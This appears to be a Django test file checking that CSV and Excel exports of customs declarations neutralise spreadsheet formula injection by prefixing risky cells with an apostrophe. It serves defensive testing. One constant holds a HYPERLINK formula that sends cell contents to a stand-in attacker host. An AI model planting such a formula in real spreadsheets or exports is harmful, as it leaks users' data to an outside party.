"""No cell of a declaration export runs as a formula in a spreadsheet (an imported company name
``=HYPERLINK(...)``, a waybill ``=1+1``)."""

import csv
import io

from django.urls import reverse
from openpyxl import load_workbook

from declarations.cells import SafeCsvWriter, safe_cell, safe_row
from tests.export_jobs import exported
from tests.factories import CompanyFactory, DeclarationFactory
from tests.sheets import table

LINK = '=HYPERLINK("http://evil.example/?d="&A2,"Click for details")'


def test_it_neutralises_each_start_a_spreadsheet_reads_as_a_formula():
    for text in ("=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1"):
        assert safe_cell(text) == "'" + text
    for value in ("BZG", "1404/05/01", "", "حمل و نقل", 12, -3, 1.5, None, "'=1"):
        assert safe_cell(value) == value
    assert safe_row(["=1", 2]) == ["'=1", 2]
    out = io.StringIO()
    SafeCsvWriter(out).writerow([LINK, -4, "x"])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'" + LINK, "-4", "x"]


def test_the_list_exports_carry_an_imported_formula_as_text(client, hq, bazargan, tehran):
    d = DeclarationFactory(origin=bazargan, destination=tehran, company=CompanyFactory(name=LINK), waybill_no="=1+1")
    client.force_login(hq)

    text = exported(client, reverse("declarations:export-csv")).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][0] == d.serial
    company, waybill = rows[0].index("Transport company"), rows[0].index("Waybill number")
    assert (rows[1][company], rows[1][waybill]) == ("'" + LINK, "'=1+1")

    sheet = load_workbook(io.BytesIO(exported(client, reverse("declarations:export-xlsx")))).worksheets[0]
    header, row = table(sheet)[:2]
    names = [c.value for c in header]
    company, waybill = row[names.index("Transport company")], row[names.index("Waybill number")]
    assert (company.data_type, waybill.data_type) == ("s", "s")  # text, not "f" (a formula)
    assert (company.value, waybill.value) == ("'" + LINK, "'=1+1")
